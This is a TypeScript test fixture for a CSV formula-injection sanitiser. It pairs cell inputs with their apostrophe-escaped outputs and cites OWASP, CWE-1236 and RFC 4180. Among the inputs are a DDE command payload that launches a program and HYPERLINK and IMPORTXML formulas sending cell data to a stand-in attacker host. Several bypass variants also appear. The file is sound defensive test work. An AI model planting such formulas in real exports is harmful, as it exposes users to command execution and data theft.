// Cells of tables for spreadsheets. What would be run there is made a text by an apostrophe; all else stays.

import { rows } from '../row.ts'

const owasp = 'CWE-1236; OWASP CSV injection'

export const cells = rows<string, string>('csv', [
  ['equals', '=1+1', "'=1+1", owasp],
  ['plus', '+1', "'+1", owasp],
  ['minus', '-1', "'-1", owasp],
  ['at', '@SUM(A1)', "'@SUM(A1)", owasp],
  ['command', "=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0", 'CVE-2014-3524; DDE in spreadsheets'],
  ['link', '=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)', owasp],
  ['import', '=IMPORTXML("https://evil.example","//a")', '\'=IMPORTXML("https://evil.example","//a")', owasp],
  ['behind-blanks', '   =1+1', "'   =1+1", 'security.md 4, web: also after spaces'],
  ['behind-tab', '\t=1+1', "'\t'=1+1", owasp],
  ['behind-carriage-return', '\r=1+1', "'\r'=1+1", owasp],
  ['behind-line-break', 'a\n=1+1', "a\n'=1+1", owasp],
  ['behind-zero-width', '\u200b=1+1', "'\u200b=1+1", 'Unicode TR36'],
  ['behind-byte-order-mark', '\ufeff=1+1', "'\ufeff=1+1", 'Unicode 23.8'],
  ['behind-no-break-space', '\u00a0=1+1', "'\u00a0=1+1", 'Unicode TR36'],
  ['full-width-equals', '＝1+1', "'＝1+1", 'security.md 4, web: full-width signs'],
  ['full-width-plus', '＋1', "'＋1", 'security.md 4, web: full-width signs'],
  ['full-width-at', '＠SUM(A1)', "'＠SUM(A1)", 'security.md 4, web: full-width signs'],
  ['minus-sign', '−1', "'−1", 'Unicode 6.2, minus sign'],
  ['semicolon', 'x;=1+1;y', "x;'=1+1;y", 'OWASP CSV injection: separators; CWE-1236'],
  ['semicolon-blanks', 'x; =1+1', "x;' =1+1", 'OWASP CSV injection: separators; CWE-1236'],
  ['quote-semicolon', 'x";"=1+1', 'x";\'"=1+1', 'OWASP CSV injection: quotes; CWE-1236'],
  ['quote-comma', '","=1+1', '","=1+1', 'RFC 4180 2.7: the quotes are doubled'],
  ['quotes-first', '"=1+1"', '\'"=1+1"', owasp],
  ['line-of-ones-own', 'a\r\n"=1+1"', 'a\r\n\'"=1+1"', 'RFC 4180 2.6'],
  ['apostrophe-first', "'=1+1", "''=1+1", owasp],
  ['plain', 'Screen, 24"', 'Screen, 24"', 'RFC 4180 2.7'],
  ['mail-address', 'ana@school.example', 'ana@school.example', 'security.md 4'],
  ['date', '2026-06-08', '2026-06-08', 'security.md 4'],
])
